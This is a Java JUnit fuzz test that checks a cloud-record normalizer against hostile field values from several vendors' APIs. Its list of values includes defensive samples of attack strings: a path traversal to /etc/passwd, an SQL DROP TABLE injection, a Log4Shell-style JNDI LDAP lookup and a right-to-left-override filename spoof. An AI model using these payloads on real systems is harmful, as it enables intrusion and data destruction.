package caravan.cloud;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import caravan.Fixtures;
import caravan.cloud.record.Normalized;
import caravan.event.Observation;
import caravan.event.Rejected;
import caravan.model.Scope;
import caravan.model.Scopes;
import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A vendor may put anything into any field. Whatever it is, the record becomes either an event that
 * keeps the contract or a rejection with a short reason; nothing else is thrown, nothing secret
 * comes out, and what is published fits into a Kafka record.
 */
class HostileRecordsTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final int MAX_KAFKA_RECORD = 256 * 1024;
  private static final Set<String> ERROR_CLASSES =
      Set.of("missing_field", "wrong_type", "bad_time", "bad_number", "too_long");

  private record Subject(Normalizer normalizer, Scope scope, String good) {

    @Override
    public String toString() {
      return scope.api().id();
    }
  }

  static Stream<Subject> subjects() {
    return Stream.of(
        new Subject(
            Fixtures.normalizer(Fixtures.TENCENT),
            Scopes.of("tencent-mongodb-client-connections", "1", "r", null, "i", null),
            "{\"IP\":\"10.0.0.1\",\"Count\":1,\"InternalService\":true}"),
        new Subject(
            Fixtures.normalizer(Fixtures.TENCENT_SSL),
            Scopes.of("tencent-mongodb-instance-ssl", "1", "r", null, "i", null),
            "{\"Status\":1,\"ExpiredTime\":\"2023-05-04 12:13:00\","
                + "\"CertUrl\":\"http://sample/cert\"}"),
        new Subject(
            Fixtures.normalizer(Fixtures.ALIBABA),
            Scopes.of("alibaba-sag-online-clients", "1", "r", null, "i", "u"),
            "{\"ClientIp\":\"10.0.0.1\",\"OnlineTime\":\"1559125519\"}"),
        new Subject(
            Fixtures.normalizer(Fixtures.HUAWEI),
            Scopes.of("huawei-vpn-p2c-connections", "1", "r", "p", "i", null),
            "{\"connection_id\":\"c\",\"client_ip\":\"8.8.8.8\",\"client_virtual_ip\":\"10.0.0.2\","
                + "\"client_user_name\":\"u\",\"inbound_bytes\":1,\"outbound_bytes\":1,"
                + "\"inbound_packets\":1,\"outbound_packets\":1,"
                + "\"connection_established_time\":\"2024-06-17T02:58:27.213Z\","
                + "\"timestamp\":\"2024-06-17T02:58:48Z\"}"),
        new Subject(
            Fixtures.normalizer(Fixtures.CTYUN),
            Scopes.of("ctyun-mongodb-accounts", "1", "", null, "i", null),
            "{\"user\":\"u\",\"db\":\"d\",\"roles\":[{\"role\":\"read\",\"db\":\"d\"}]}"));
  }

  @ParameterizedTest
  @MethodSource("subjects")
  void anyValueInAnyFieldGivesAValidEventOrARejection(Subject subject) {
    Set<String> names = new TreeSet<>();
    Normalized.vendorRecord(subject.good()).fieldNames().forEachRemaining(names::add);
    names.add("undeclared");
    int events = 0;
    for (String name : names) {
      for (JsonNode value : hostileValues()) {
        ObjectNode vendorRecord = Normalized.vendorRecord(subject.good());
        vendorRecord.set(name, value);
        events += check(subject, vendorRecord) ? 1 : 0;
      }
    }
    assertTrue(events >= hostileValues().size(), "the undeclared field must never reject");
  }

  @ParameterizedTest
  @MethodSource("subjects")
  void everyFieldHostileAtOnceIsNoWorse(Subject subject) {
    for (JsonNode value : hostileValues()) {
      ObjectNode vendorRecord = Normalized.vendorRecord(subject.good());
      List<String> names = new ArrayList<>();
      vendorRecord.fieldNames().forEachRemaining(names::add);
      names.forEach(name -> vendorRecord.set(name, value));
      check(subject, vendorRecord);
    }
    check(subject, JSON.createObjectNode());
  }

  /** Whether the record became an event. */
  private static boolean check(Subject subject, ObjectNode vendorRecord) {
    JsonNode before = vendorRecord.deepCopy();
    try {
      Observation observation =
          subject.normalizer().normalize(vendorRecord, subject.scope(), Normalized.place());
      String event = Normalized.event(observation, subject.scope()).toString();
      assertFalse(event.contains("s3cret"), event);
      assertTrue(event.getBytes(StandardCharsets.UTF_8).length <= MAX_KAFKA_RECORD, "too large");
      assertEquals(Normalized.raw(vendorRecord), observation.raw());
      return true;
    } catch (Rejected rejected) {
      assertTrue(ERROR_CLASSES.contains(rejected.errorClass()), rejected.errorClass());
      assertFalse(rejected.path().isEmpty());
      assertTrue(rejected.getMessage().length() < 700, rejected.getMessage());
      assertFalse(rejected.getMessage().contains("s3cret"), rejected.getMessage());
      return false;
    } finally {
      assertEquals(before, vendorRecord);
    }
  }

  private static List<JsonNode> hostileValues() {
    List<JsonNode> values = new ArrayList<>();
    for (String json :
        List.of(
            "null",
            "true",
            "false",
            "0",
            "-1",
            "1.5",
            "1e400",
            "-1e400",
            "1e-400",
            "9223372036854775807",
            "9223372036854775808",
            "99999999999999999999",
            "253402300800",
            "99999999999999",
            "{}",
            "[]",
            "[null]",
            "[[[[]]]]",
            "{\"a\":{\"b\":{\"token\":\"s3cret\"}}}",
            "{\"password\":{\"x\":\"s3cret\"}}",
            "[{\"role\":\"root\",\"db\":\"admin\",\"secret\":\"s3cret\"}]",
            "[{\"role\":{},\"db\":[]}]",
            "[1,\"x\",null,{}]")) {
      values.add(parse(json));
    }
    for (String text :
        List.of(
            "",
            " ",
            "\u0000",
            "\u0001\u001f\u007f\u0085\u2028",
            "\ud800",
            "\udc00x\ud83d",
            "😀😀😀",
            "عمر \u202egnp.exe",
            "e\u0301",
            "../../etc/passwd",
            "%2F%00",
            "'; DROP TABLE x; --",
            "${jndi:ldap://u:s3cret@host/a}",
            "https://u:s3cret@host/a?sign=s3cret#s3cret",
            "see http://u:s3cret@host/",
            "NaN",
            "0x10",
            "0000-00-00 00:00:00",
            "9999-12-31 23:59:59",
            "10000-01-01T00:00:00Z",
            "2023-02-30 12:00:00",
            "::ffff:1.2.3.4",
            "1.2.3.4:99999",
            "*",
            "x".repeat(129),
            "x".repeat(513),
            "x".repeat(2049),
            "😀".repeat(600),
            "\u0000".repeat(300_000),
            "\"".repeat(300_000),
            "用".repeat(300_000),
            "9".repeat(300_000),
            "*".repeat(300_000),
            "1.".repeat(150_000),
            ":".repeat(300_000),
            "a@".repeat(150_000),
            "x".repeat(2_000_000))) {
      values.add(JSON.getNodeFactory().textNode(text));
    }
    return values;
  }

  private static JsonNode parse(String json) {
    try {
      return JSON.readTree(json);
    } catch (JsonProcessingException e) {
      throw new IllegalArgumentException(json, e);
    }
  }
}
